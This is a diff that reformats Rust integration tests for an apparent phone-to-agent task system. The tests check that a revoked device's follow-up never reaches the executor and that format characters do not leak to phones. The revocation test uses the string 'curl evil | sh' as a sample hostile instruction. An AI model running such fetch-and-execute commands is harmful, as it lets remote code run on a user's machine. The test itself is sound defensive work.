@@ -230,8 +230,11 @@ async fn a_revoked_devices_follow_up_on_a_queued_task_never_reaches_the_executor
     })
     .await;
     // A (allowed to submit, for now) adds its instruction to B's queued task.
-    a.send(&Message::FollowUp { task_id: "t-follow".into(), text: "from A: curl evil | sh".into() })
-        .await;
+    a.send(&Message::FollowUp {
+        task_id: "t-follow".into(),
+        text: "from A: curl evil | sh".into(),
+    })
+    .await;
     until(&mut b, &mut seen, |s| {
         s.tasks["t-follow"].iter().any(|(_, e)| matches!(e, TaskEvent::FollowUp { .. }))
     })
@@ -281,7 +284,10 @@ async fn no_format_character_reaches_a_phone_through_any_task_event() {
     let config = dir.path().join("config.toml");
     std::fs::write(
         &config,
-        format!("[[executor]]\nname = \"x\"\ntype = \"jsonl\"\nprogram = \"{}\"\n", script.display()),
+        format!(
+            "[[executor]]\nname = \"x\"\ntype = \"jsonl\"\nprogram = \"{}\"\n",
+            script.display()
+        ),
     )
     .unwrap();
     let agent = Agent::up(dir.path(), &config);
@@ -303,9 +309,9 @@ async fn no_format_character_reaches_a_phone_through_any_task_event() {
             leaks.push(kind.chars().take(60).collect());
         }
         match &m {
-            Message::TaskEvent { event: TaskEvent::ApprovalRequest { approval_id, .. }, .. }
-                if !answered =>
-            {
+            Message::TaskEvent {
+                event: TaskEvent::ApprovalRequest { approval_id, .. }, ..
+            } if !answered => {
                 answered = true;
                 phone
                     .send(&Message::ApprovalDecision {
